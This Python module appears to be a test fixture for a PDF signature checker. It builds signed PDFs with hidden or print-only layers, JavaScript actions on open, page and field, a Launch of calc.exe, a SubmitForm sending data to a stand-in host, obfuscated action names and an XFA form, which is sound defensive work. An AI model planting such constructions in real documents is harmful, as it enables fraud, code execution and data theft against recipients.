"""Files prepared before signing, so that what is seen later need not be what was signed."""

from __future__ import annotations

from attacks.listed import attack, attacks
from attacks.papers import CATALOGUE, PAGE, SPARE, page_text, parts, signed, stream, written


def _catalogue(add: bytes, more: dict[int, bytes] | None = None) -> bytes:
    objects = {**parts(), **(more or {})}
    objects[CATALOGUE] = objects[CATALOGUE].replace(b"/Pages 2 0 R", b"/Pages 2 0 R " + add)
    return signed(written(objects))


_LAYER = {
    SPARE: b"<< /Type /OCG /Name (Lop) >>",
    4: stream(
        page_text("UBND TINH THU NGHIEM") + b" /OC /L BDC " + page_text("Kinh phi ho tro: 9.000.000 dong") + b" EMC",
    ),
}
attacks(
    "hidden layers",
    {
        "a layer that is off at first": lambda: _catalogue(
            b"/OCProperties << /OCGs [12 0 R] /D << /OFF [12 0 R] >> >>", _LAYER
        ),
        "a layer that shows only in print": lambda: _catalogue(
            b"/OCProperties << /OCGs [12 0 R] /D << /ON [12 0 R] "
            b"/AS [<< /Event /Print /OCGs [12 0 R] /Category [/Print] >>] >> >>",
            _LAYER,
        ),
        "all layers off by default": lambda: _catalogue(
            b"/OCProperties << /OCGs [12 0 R] /D << /BaseState /OFF >> >>", _LAYER
        ),
        "layers without a usual state": lambda: _catalogue(b"/OCProperties << /OCGs [12 0 R] >>", _LAYER),
    },
)
attacks(
    "scripts",
    {
        "a script when opened": lambda: _catalogue(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "a script in an object of its own": lambda: _catalogue(
            b"/OpenAction 12 0 R", {SPARE: b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (1) >> >>"}
        ),
        "named scripts": lambda: _catalogue(
            b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"
        ),
        "a script before printing": lambda: _catalogue(b"/AA << /WP << /S /JavaScript /JS (1) >> >>"),
        "another program when opened": lambda: _catalogue(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
        "another file when opened": lambda: _catalogue(b"/OpenAction << /S /GoToR /F (khac.pdf) /D [0 /Fit] >>"),
        "data sent away when opened": lambda: _catalogue(b"/OpenAction << /S /SubmitForm /F (http://ke.xau/) >>"),
        "layers switched when opened": lambda: _catalogue(b"/OpenAction << /S /SetOCGState /State [/OFF 12 0 R] >>"),
        "with its name written in disguise": lambda: _catalogue(b"/OpenAction << /S /J#61vaScript /#4aS (1) >>"),
    },
)


@attack("scripts")
def script_of_a_page() -> bytes:
    """A script when the page is opened."""
    objects = parts()
    objects[PAGE] = objects[PAGE].replace(b"/Parent", b"/AA << /O << /S /JavaScript /JS (1) >> >> /Parent")
    return signed(written(objects))


@attack("scripts")
def script_of_a_field() -> bytes:
    """A script that counts a field's value anew whenever the file is opened."""
    objects = parts()
    objects[9] = objects[9].replace(b"/T (", b"/AA << /C << /S /JavaScript /JS (event.value=9) >> >> /T (")
    objects[CATALOGUE] = objects[CATALOGUE].replace(b"/Fields [9 0 R]", b"/Fields [9 0 R] /CO [9 0 R]")
    return signed(written(objects))


@attack("dynamic form")
def dynamic_form() -> bytes:
    """A form whose pages a program draws by itself (XFA)."""
    objects = parts()
    objects[CATALOGUE] = objects[CATALOGUE].replace(b"/Fields [9 0 R]", b"/Fields [9 0 R] /XFA 12 0 R")
    objects[SPARE] = stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    return signed(written(objects))
